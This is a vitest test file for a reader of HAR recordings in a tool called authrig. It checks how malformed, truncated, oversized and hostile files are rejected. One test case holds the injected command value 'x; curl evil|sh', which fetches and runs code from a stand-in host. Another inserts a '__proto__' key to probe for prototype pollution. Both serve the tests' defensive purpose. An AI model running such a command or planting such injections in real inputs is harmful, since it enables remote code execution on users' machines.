import { execFileSync } from 'node:child_process';
import { mkdirSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { readOwnRecording, readRecording } from '../../src/recording/read.ts';
import { ownFile } from '../helpers/recorded.ts';
import { temporaryFolder } from '../helpers/temporary-folder.ts';

/** As a browser saves one request: with members that HAR has no need of, and without some that it has. */
const browsers = {
  log: {
    version: '1.2',
    creator: { name: 'Firefox', version: '133.0' },
    pages: [],
    entries: [
      {
        _initiator: { type: 'script' },
        startedDateTime: '2026-01-02T03:04:05.678+01:00',
        time: 12,
        request: {
          method: 'POST',
          url: 'https://kend.elixir.app/sdk/auth/v2/signin/otp-verify',
          headers: [{ name: 'x-api-key', value: 'k', comment: '' }],
          cookies: [{ name: 'a', value: 'b', httpOnly: true }],
        },
        response: { status: 200, content: { mimeType: 'application/json', size: 2, text: '{}' } },
      },
    ],
  },
};

function file(content: string): string {
  const path = join(temporaryFolder(), 'case.har');
  writeFileSync(path, content);
  return path;
}

describe('a recording is read', () => {
  test('from a browser, with what it left out put in', async () => {
    const { log } = await readRecording(file(`\uFEFF${JSON.stringify(browsers)}`));
    expect(log.entries[0]).toMatchObject({
      request: { headers: [{ name: 'x-api-key', value: 'k' }], queryString: [], headersSize: -1 },
      response: { status: 200, headers: [], content: { text: '{}' } },
      timings: { wait: -1 },
    });
    expect(log).not.toHaveProperty('_authrig');
  });

  test('from a browser, and is none that could be replayed', async () => {
    await expect(readOwnRecording(file(JSON.stringify(browsers)))).rejects.toMatchObject({
      kind: 'usage',
      message: expect.stringContaining('saved by another program') as string,
    });
  });

  test.each([
    ['no JSON', '<html>', 'it is no JSON'],
    ['nothing', '', 'it is no JSON'],
    ['a list', '[]', 'its member "log"'],
    ['a text', '"har"', 'it holds something else'],
    ['another document', '{"ok":true}', 'its member "log"'],
    ['entries that are none', '{"log":{"version":"1.2","entries":[1]}}', 'its member "log.entries.0"'],
    [
      'a damaged part of ours',
      '{"log":{"version":"1.2","entries":[],"_authrig":{"schemaVersion":0}}}',
      'its member "log._authrig.schemaVersion"',
    ],
    [
      'what a later version wrote',
      '{"log":{"version":"1.2","entries":[],"_authrig":{"schemaVersion":2}}}',
      'was recorded by a newer authrig',
    ],
    ['broken JSON', '{"log":{"version":1.2,}}', 'it is no JSON'],
  ])('%s is a usage error that says what is wrong', async (_name, content, problem) => {
    await expect(readRecording(file(content))).rejects.toMatchObject({
      kind: 'usage',
      message: expect.stringContaining(problem) as string,
    });
  });

  test('a file that was cut off is called so, wherever it was cut', async () => {
    const whole = JSON.stringify(browsers);
    for (const length of [1, 2, 9, 30, Math.floor(whole.length / 2), whole.length - 1]) {
      const message = expect.stringContaining('it is cut off, and its end is missing') as string;
      await expect(readRecording(file(whole.slice(0, length))), String(length)).rejects.toMatchObject({
        message,
      });
    }
  });

  test('F54: a folder, a FIFO, a file that is missing and one that is too large are refused at once', async () => {
    const folder = temporaryFolder();
    mkdirSync(join(folder, 'folder'));
    execFileSync('mkfifo', [join(folder, 'fifo')]);
    writeFileSync(join(folder, 'large'), '');
    truncateSync(join(folder, 'large'), 101 * 1024 * 1024);
    for (const [name, problem] of [
      ['folder', 'no plain file'],
      ['fifo', 'no plain file'],
      ['missing', 'no such file'],
      ['large', 'larger than 100 MB'],
    ] as const) {
      await expect(readRecording(join(folder, name)), name).rejects.toMatchObject({
        kind: 'usage',
        message: expect.stringContaining(problem) as string,
      });
    }
  });

  test.each(['x; curl evil|sh', 'jekimo login\n- @everyone', 'jekimo\u001b]0;', 'jekimo login --yes', ''])(
    'S32: a recording of %j, which explain would give to type again, is none',
    async (command) => {
      const own = ownFile({ command: 'jekimo login', milliseconds: 1, verdict: { exitCode: 0 } });
      await expect(readRecording(file(own))).resolves.toBeDefined();
      await expect(
        readRecording(file(own.replace('"jekimo login"', JSON.stringify(command)))),
      ).rejects.toMatchObject({
        kind: 'usage',
        message: expect.stringContaining('"log._authrig.command"') as string,
      });
    },
  );

  test('S17: no name in a file reaches a prototype', async () => {
    const text = JSON.stringify(browsers).replace('"pages"', '"__proto__":{"polluted":true},"pages"');
    await readRecording(file(text));
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });
});
